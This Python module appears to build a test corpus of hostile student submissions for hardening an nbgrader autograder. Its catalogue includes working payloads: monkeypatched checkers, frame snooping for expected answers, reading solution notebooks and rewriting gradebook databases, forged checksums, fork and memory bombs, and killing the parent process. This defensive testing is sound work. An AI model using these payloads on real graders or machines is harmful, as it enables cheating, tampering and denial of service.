"""The hostile submissions, built at run time from the student release of ``03_layers``.

Each :class:`Hostile` names one attack on the grader and what it may earn. Most put the attack
on top of answers that are wrong or unwritten, so that the attack is the only way they could
score: they must score no more than ``honest_wrong`` (plausible wrong answers, graded in the
same run). ``style`` entries are correct solutions written unusually: they must earn full
marks. Everything below is ordinary student-editable content: solution-cell bodies, extra
code cells, files beside the notebook, or edits to the notebook's cells and metadata.

Most attacks earn points under stock nbgrader; ``make_corpus.py`` writes them out for trying.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from nbgrader.utils import compute_checksum

EXERCISES = ["Linear", "Sigmoid", "Tanh", "ReLU", "LinearSigmoid", "Sequential"]
ACTIVATIONS = ["Sigmoid", "Tanh", "ReLU"]


def cell_id(name: str) -> str:
    return f"layers_{name}_backward"


def every(body: str, names: list[str] = EXERCISES) -> dict[str, str]:
    return {cell_id(n): body for n in names}


#: Plausible wrong answers of every exercise: the honest baseline.
HONEST_WRONG = {
    cell_id("Linear"): "self.W.grad += self.x.T @ grad_out\nreturn grad_out @ self.W.data",
    cell_id("Sigmoid"): "return grad_out * self.y",
    cell_id("Tanh"): "return grad_out * (1 - self.y)",
    cell_id("ReLU"): "return grad_out * (self.x < 0)",
    cell_id("LinearSigmoid"): "self.W.grad += self.x.T @ grad_out\nreturn grad_out @ self.W.data.T",
    cell_id("Sequential"): "return self.layers[-1].backward(grad_out)",
}

#: Correct answers in other styles (einsum, loops, in-place arithmetic, prints and warnings).
STYLES = {
    "style_einsum": {
        cell_id("Linear"): """
            np.add(self.W.grad, np.einsum("nd,nm->dm", self.x, grad_out), out=self.W.grad)
            self.b.grad += np.einsum("nm->m", grad_out)
            return np.einsum("nm,dm->nd", grad_out, self.W.data)
        """,
        cell_id("Sigmoid"): 'return np.einsum("...,...->...", grad_out, self.y * (1 - self.y))',
        cell_id("Tanh"): 'return np.einsum("...,...->...", grad_out, 1 - self.y * self.y)',
        cell_id("ReLU"): "return grad_out * np.heaviside(self.x, 0.0)",
        cell_id("LinearSigmoid"): """
            dz = grad_out * self.y * (1 - self.y)
            self.W.grad += np.einsum("nd,nm->dm", self.x, dz)
            if self.b is not None:
                self.b.grad += np.einsum("nm->m", dz)
            return np.einsum("nm,dm->nd", dz, self.W.data)
        """,
        cell_id("Sequential"): """
            g = grad_out
            for i in range(len(self.layers) - 1, -1, -1):
                g = self.layers[i].backward(g)
            return g
        """,
    },
    "style_loops_inplace_prints": {
        cell_id("Linear"): """
            import warnings
            print("Linear.backward: grad_out", grad_out.shape)
            warnings.warn("debugging Linear.backward")
            grad_x = np.empty((grad_out.shape[0], self.W.data.shape[0]))
            for n in range(grad_out.shape[0]):  # one example at a time
                self.W.grad += np.outer(self.x[n], grad_out[n])
                self.b.grad += grad_out[n]
                grad_x[n] = self.W.data @ grad_out[n]
            return grad_x
        """,
        cell_id("Sigmoid"): """
            grad = self.y.copy()
            grad *= 1.0 - self.y
            grad *= grad_out
            return grad
        """,
        cell_id("Tanh"): """
            grad = np.square(self.y)
            np.subtract(1.0, grad, out=grad)
            grad *= grad_out
            return grad
        """,
        cell_id("ReLU"): """
            grad = grad_out.copy()
            grad[self.x <= 0] = 0.0
            return grad
        """,
        cell_id("LinearSigmoid"): """
            dz = np.array(grad_out, dtype=float)
            dz *= self.y
            dz *= 1.0 - self.y
            for n in range(dz.shape[0]):
                self.W.grad += np.outer(self.x[n], dz[n])
                if self.b is not None:
                    self.b.grad += dz[n]
            return dz @ self.W.data.T
        """,
        cell_id("Sequential"): """
            print("Sequential.backward through", len(self.layers), "layers")
            for layer in self.layers[::-1]:
                grad_out = layer.backward(grad_out)
            return grad_out
        """,
    },
}


@dataclass
class Hostile:
    """One hostile submission: how to build it and what it may earn."""

    name: str
    what: str
    answers: dict[str, str] = field(default_factory=dict)
    extra_cells: list[tuple[str, str]] = field(default_factory=list)
    #: Edits the built notebook (metadata tampering); runs after answers and extra cells.
    transform: Callable[[nbformat.NotebookNode], None] | None = None
    #: Files written beside the notebook: relative path -> text.
    files: dict[str, str] = field(default_factory=dict)
    #: "at_most_honest" (<= the honest wrong answer), "no_hidden" (every hidden cell 0), "full"
    expect: str = "at_most_honest"
    #: A flag the grader must raise (substring of the flags column).
    flag: str | None = None
    #: Grade a perfect submission right after it, to show it is unaffected.
    peer: bool = False
    #: Why the grader is known to lose to this attack (the test is then a strict xfail).
    known_hole: str | None = None
    #: Secrets planted on the machine that the attack reads: none may appear in the output
    #: (names of :class:`hostile.harness.Planted` markers: "clone", "root", "environ", ...).
    secrets: tuple[str, ...] = ()
    #: Evidence the attack prints when it got through a limit (see hostile.corpus.evidence).
    evidence: str | None = None
    #: The attack puts active content (scripts, event handlers) into its outputs and markdown.
    active: bool = False
    #: ``answers`` replace the perfect answers (styles), not the honest wrong ones.
    over_perfect: bool = False
    #: Points the entry earns by honest work of its own in cells its attack leaves alone (a
    #: forward written by hand before a delegated backward): it may score honest_wrong + this.
    allowance: float = 0.0
    #: The shared notebook the entry is graded in, with the other entries of the same bundle
    #: (attacks that do not interfere: distinct answer cells, appended cells that print or read).
    #: Its verdicts are then the bundle's row; see :func:`hostile.harness.merge_bundle`.
    bundle: str | None = None


def _test_cells(nb) -> list:
    return [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade")]


def _markdown_tests(nb) -> None:
    for cell in _test_cells(nb):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _forge_checksums(nb) -> None:
    for cell in _test_cells(nb):
        cell.source = '"""Check that everything is fine."""\nprint("✓ all case(s) passed")'
        cell.metadata.nbgrader["checksum"] = compute_checksum(cell)


def _delete_tests(nb) -> None:
    nb.cells = [c for c in nb.cells if c not in _test_cells(nb)]


def _duplicate_tests(nb) -> None:
    for cell in _test_cells(nb):
        twin = copy.deepcopy(cell)
        twin.id = cell.id + "-2"
        twin.source = 'print("✓ passed")'
        nb.cells.insert(nb.cells.index(cell) + 1, twin)


def _rename_tests(nb) -> None:
    for cell in _test_cells(nb):
        cell.metadata.nbgrader["grade_id"] += "_mine"
        cell.source = 'print("✓ passed")'


def _raise_points(nb) -> None:
    for cell in _test_cells(nb):
        cell.metadata.nbgrader["points"] = 100
        cell.metadata.nbgrader["checksum"] = compute_checksum(cell)


STUB = ""  # an unanswered cell: the release's NotImplementedError stays

CATALOGUE: list[Hostile] = [
    Hostile(
        "rebind_allclose",
        "np.allclose always true",
        HONEST_WRONG,
        [
            (
                "start",
                """
        import numpy as np
        np.allclose = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
    """,
            )
        ],
    ),
    Hostile(
        "rebind_check",
        "check() replaced by a function that prints 'passed'",
        HONEST_WRONG,
        [
            (
                "start",
                """
        import builtins
        import course.exercises, course.exercises.base
        def check(name, student, *, hidden=False, **kw):
            print(f"✓ {name}: all case(s) passed")
        course.exercises.check = course.exercises.base.check = builtins.check = check
    """,
            )
        ],
    ),
    Hostile(
        "mutate_code",
        "the checker's functions rewritten through __code__",
        HONEST_WRONG,
        [
            (
                "start",
                """
        import course.exercises.base as base
        import course.gradcheck as gc
        def _passes(*args, **kwargs):
            return []
        base.check.__code__ = _passes.__code__
        def _judge(exercise, case, *args):
            return exercise.verdict(case)
        base.judge_case.__code__ = _judge.__code__
    """,
            )
        ],
    ),
    Hostile(
        "input_transformer",
        "an IPython input transformer that drops check() lines",
        HONEST_WRONG,
        [
            (
                "start",
                """
        def _drop_checks(lines):
            return [l for l in lines if "check(" not in l and "assert" not in l]
        get_ipython().input_transformers_post.append(_drop_checks)
    """,
            )
        ],
    ),
    Hostile(
        "lying_ndarray",
        "an ndarray subclass whose comparisons and ufuncs lie",
        every(
            """
        class Liar(np.ndarray):
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.zeros(np.broadcast(*[np.asarray(i) for i in inputs]).shape, dtype=bool) | True
            def __eq__(self, other):
                return True
            def __array_finalize__(self, obj):
                pass
        return np.zeros_like(grad_out).view(Liar)
    """,
            ACTIVATIONS,
        ),
    ),
    Hostile(
        "frame_reader",
        "backward reads expected gradients from the caller's frames",
        every(
            """
        import inspect
        frame = inspect.currentframe().f_back
        while frame is not None:
            for key in ("expected", "numeric", "grad_x", "reference", "answer"):
                if key in frame.f_locals and isinstance(frame.f_locals[key], np.ndarray):
                    return frame.f_locals[key]
            case = frame.f_locals.get("case")
            if case is not None and hasattr(case, "arrays"):
                for key, value in case.arrays.items():
                    if key.startswith("expected"):
                        return value
            frame = frame.f_back
        return np.zeros_like(grad_out)
    """,
            ACTIVATIONS,
        ),
    ),
    Hostile(
        "shadow_package",
        "a fake course package submitted beside the notebook",
        HONEST_WRONG,
        files={
            "course/__init__.py": "from .layers import *\n",
            "course/layers.py": "raise ImportError('shadowed')\n",
            "course/exercises/__init__.py": (
                "def check(name, student, hidden=False, **kw):\n    print('✓ all case(s) passed')\n"
            ),
        },
        flag="ignored files",
    ),
    Hostile(
        "display_formatter",
        "a display formatter that prints a partial-credit number",
        HONEST_WRONG,
        [
            (
                "start",
                """
        ip = get_ipython()
        ip.display_formatter.formatters["text/plain"].for_type(list, lambda obj, p, cycle: p.text("100"))
        ip.display_formatter.formatters["text/plain"].for_type(type(None), lambda obj, p, cycle: p.text("100"))
    """,
            )
        ],
    ),
    Hostile(
        "snoop_solutions_gradebook",
        "reads solutions/ and source/, writes extra_credit into the gradebook",
        every("return super().backward(grad_out)"),
        [
            (
                "end",
                """
        import json, pathlib, sqlite3
        import course
        places = [pathlib.Path(course.__file__).resolve().parents[1], pathlib.Path.cwd(), *pathlib.Path.cwd().parents]
        for place in places[:8]:
            for nb in [*place.glob("solutions/*/*.ipynb"), *place.glob("**/source/*/*.ipynb")]:
                for cell in json.loads(nb.read_text())["cells"]:
                    if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                        exec("".join(cell["source"]), globals())
            for db in place.glob("**/*.db"):
                try:
                    with sqlite3.connect(db) as con:
                        con.execute("UPDATE grade SET extra_credit = 100")
                except sqlite3.Error:
                    pass
    """,
            )
        ],
    ),
    Hostile(
        "delegate_super", "backward delegates to the library's with super()", every("return super().backward(grad_out)")
    ),
    Hostile(
        "delegate_saved_reference",
        "a reference to the library's backward saved before the check",
        every("return _REFERENCE[type(self).__name__](self, grad_out)"),
        [
            (
                "start",
                """
        import course
        _REFERENCE = {name: getattr(course.layers, name).backward
                      for name in ["Linear", "Sigmoid", "Tanh", "ReLU", "LinearSigmoid", "Sequential"]}
    """,
            )
        ],
    ),
    Hostile(
        "delegate_untrapped",
        "the delegation trap and profiler disabled, then super()",
        every("return super().backward(grad_out)"),
        extra_cells=[
            (
                "start",
                """
        import contextlib, sys, threading
        import course.exercises.running as running  # where run_case looks up its trap
        @contextlib.contextmanager
        def _no_trap(exercise, *watch):
            yield []
        running.trapped = _no_trap
        sys.setprofile = lambda *a: None
        threading.setprofile = lambda *a: None
    """,
            )
        ],
    ),
    Hostile(
        "delegate_code_copy",
        "a function rebuilt from a copy of the library's code object",
        every("return types.FunctionType(_CODE[type(self).__name__], vars(course.layers))(self, grad_out)"),
        [
            (
                "start",
                """
        import types
        import course
        _CODE = {name: getattr(course.layers, name).backward.__code__ for name in
                 ["Linear", "Sigmoid", "Tanh", "ReLU", "LinearSigmoid", "Sequential"]}
    """,
            )
        ],
    ),
    Hostile(
        "delegate_module_copy",
        "a second copy of course.layers loaded from its source file",
        every("return getattr(_COPY, type(self).__name__).backward(self, grad_out)"),
        [
            (
                "start",
                """
        import importlib.util
        import course
        _spec = importlib.util.spec_from_file_location("course.layers_copy", course.layers.__file__)
        _COPY = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_COPY)
    """,
            )
        ],
    ),
    Hostile(
        "kill_parent",
        "os.kill(os.getppid(), 9)",
        HONEST_WRONG,
        [
            (
                "start",
                """
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
    """,
            )
        ],
        peer=True,
    ),
    Hostile(
        "setsid_daemon",
        "a setsid daemon that outlives the notebook",
        HONEST_WRONG,
        [
            (
                "start",
                """
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)  # backprop-hostile-daemon"],
                         start_new_session=True)
    """,
            )
        ],
        peer=True,
    ),
    Hostile(
        "sigint_ignoring_loop",
        "an endless loop that ignores SIGINT",
        HONEST_WRONG,
        [
            (
                "end",
                """
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
    """,
            )
        ],
    ),
    Hostile(
        "hardcoded_visible_seed",
        "outputs recorded for the visible (and hidden) seeds",
        every(
            """
        key = (type(self).__name__, self.x.tobytes() if hasattr(self, "x") and self.x is not None else None)
        if key in _RECORDED:
            grads, grad_x = _RECORDED[key]
            for p, g in zip(self.parameters(), grads):
                p.grad += g
            return grad_x.copy()
        return np.zeros_like(grad_out)
    """,
            ["Linear"],
        ),
        [
            (
                "start",
                """
        import numpy as np
        import course
        from course.exercises import get
        from course.exercises.base import _seed
        _RECORDED = {}
        ex = get("layers.Linear.backward")
        for hidden in (False, True):
            for case in ex.cases(np.random.default_rng(_seed(ex.name, hidden)), hidden):
                layer = ex._layer(course.layers.Linear, case)
                layer.forward(case.arrays["x"].copy())
                grad_x = layer.backward(case.arrays["grad_out"].copy())
                grads = [p.grad.copy() for p in layer.parameters()]
                _RECORDED[("Linear", case.arrays["x"].tobytes())] = (grads, grad_x)
    """,
            )
        ],
    ),
    Hostile(
        "nan_and_inf",
        "NaN and inf gradients",
        every(
            """
        out = np.full(np.shape(grad_out), np.nan)
        out.flat[::2] = np.inf
        return out
    """,
            ACTIVATIONS,
        ),
    ),
    Hostile(
        "wrong_dtype",
        "float32 and integer gradients",
        every("return (grad_out * self.y * (1 - self.y)).astype(np.float32)", ["Sigmoid"])
        | every("return (grad_out * (1 - self.y**2)).astype(np.int64)", ["Tanh"]),
    ),
    Hostile(
        "broadcasting_shape",
        "a gradient of a shape that broadcasts",
        every("return (grad_out * (self.x > 0)).sum(axis=0, keepdims=True)", ["ReLU"])
        | every("return np.float64(1.0)", ["Sigmoid"])
        | every("return (grad_out * (1 - self.y**2))[..., :1]", ["Tanh"]),
    ),
    Hostile(
        "mutates_grad_out",
        "a right gradient computed by overwriting grad_out",
        every("grad_out *= self.y * (1 - self.y)\nreturn grad_out", ["Sigmoid"])
        | every("grad_out *= 1 - self.y**2\nreturn grad_out", ["Tanh"])
        | every("grad_out[self.x <= 0] = 0\nreturn grad_out", ["ReLU"]),
    ),
    Hostile(
        "finite_differences",
        "a 'backward' by centred differences of forward",
        every(
            """
        h = 1e-6
        x = self.x
        def loss(xv):
            return float(np.sum(type(self).__mro__[1].forward(self, xv) * grad_out))
        grad_x = np.zeros_like(x)
        for i in np.ndindex(x.shape):
            old = x[i]
            x[i] = old + h; up = loss(x)
            x[i] = old - h; down = loss(x)
            x[i] = old
            grad_x[i] = (up - down) / (2 * h)
        for p in self.parameters():
            for i in np.ndindex(p.data.shape):
                old = p.data[i]
                p.data[i] = old + h; up = loss(x)
                p.data[i] = old - h; down = loss(x)
                p.data[i] = old
                p.grad[i] += (up - down) / (2 * h)
        type(self).__mro__[1].forward(self, x)
        return grad_x
    """,
            ["Linear", "Sigmoid", "Tanh"],
        ),
    ),
    Hostile(
        "reseed_numpy",
        "np.random reseeded and default_rng pinned",
        HONEST_WRONG,
        [
            (
                "start",
                """
        import numpy as np
        np.random.seed(0)
        _rng = np.random.default_rng
        np.random.default_rng = lambda *args, **kwargs: _rng(0)
    """,
            )
        ],
    ),
    Hostile(
        "infinite_loop",
        "an endless loop in a cell and in backward",
        every("while True:\n    pass", ["Sigmoid", "Tanh"]) | {cell_id("ReLU"): HONEST_WRONG[cell_id("ReLU")]},
        [
            (
                "start",
                """
        while True:
            pass
    """,
            )
        ],
    ),
    Hostile(
        "memory_bomb",
        "allocates without bound",
        every(
            """
        hog = []
        while True:
            hog.append(np.ones(1 << 24))
    """,
            ACTIVATIONS,
        ),
        [
            (
                "start",
                """
        hog = []
        while True:
            hog.append(bytearray(1 << 28))
    """,
            )
        ],
        peer=True,
    ),
    Hostile(
        "fork_bomb",
        "forks without bound",
        HONEST_WRONG,
        [
            (
                "start",
                """
        import os
        for _ in range(10000):
            try:
                os.fork()
            except OSError:
                break
    """,
            )
        ],
        peer=True,
    ),
    Hostile(
        "os_exit",
        "os._exit(0) in the middle of the notebook",
        HONEST_WRONG,
        [
            (
                "start",
                """
        import os
        os._exit(0)
    """,
            )
        ],
    ),
    Hostile(
        "sys_exit",
        "sys.exit() in the middle of the notebook",
        HONEST_WRONG,
        [
            (
                "start",
                """
        import sys
        sys.exit(0)
    """,
            )
        ],
    ),
    Hostile(
        "huge_output",
        "prints hundreds of megabytes",
        HONEST_WRONG,
        [
            (
                "start",
                """
        import sys
        line = "x" * 1_000_000 + "\\n"
        for _ in range(100):
            sys.stdout.write(line)
    """,
            )
        ],
    ),
    Hostile(
        "tests_to_markdown",
        "every test cell turned into markdown",
        HONEST_WRONG,
        transform=_markdown_tests,
        flag="cell type changed",
    ),
    Hostile(
        "forged_checksum",
        "test cells replaced, checksums recomputed to match",
        HONEST_WRONG,
        transform=_forge_checksums,
        flag="checksum",
    ),
    Hostile(
        "deleted_tests", "every test cell deleted", HONEST_WRONG, transform=_delete_tests, flag="missing grade cells"
    ),
    Hostile(
        "duplicated_tests",
        "every test cell duplicated, the copy prints 'passed'",
        HONEST_WRONG,
        transform=_duplicate_tests,
        flag="duplicated grade cells",
    ),
    Hostile(
        "renamed_tests",
        "every test cell renamed and made to print 'passed'",
        HONEST_WRONG,
        transform=_rename_tests,
        flag="renamed",
    ),
    Hostile(
        "raised_points",
        "test cells worth 100 points, checksums recomputed",
        HONEST_WRONG,
        transform=_raise_points,
        flag="checksum",
    ),
    Hostile("unreadable_notebook", "a notebook that is not JSON", transform=lambda nb: None, flag="not"),
    *[Hostile(name, "a correct solution in another style", answers, expect="full") for name, answers in STYLES.items()],
]


def build_notebook(entry: Hostile, release, source) -> str:
    """The entry's notebook as text (``release``: the release cut to its exercises)."""
    from autograder.sample_class.make_sample_class import make_notebook

    answers = {gid: body for gid, body in entry.answers.items() if body != STUB}
    nb = make_notebook(release, source, answers, extra_cells=entry.extra_cells)
    if entry.transform is not None:
        entry.transform(nb)
    if entry.name == "unreadable_notebook":
        return nbformat.writes(nb)[:-200] + "\n<<< not json"
    return json.dumps(nb, indent=1, ensure_ascii=False) + "\n"
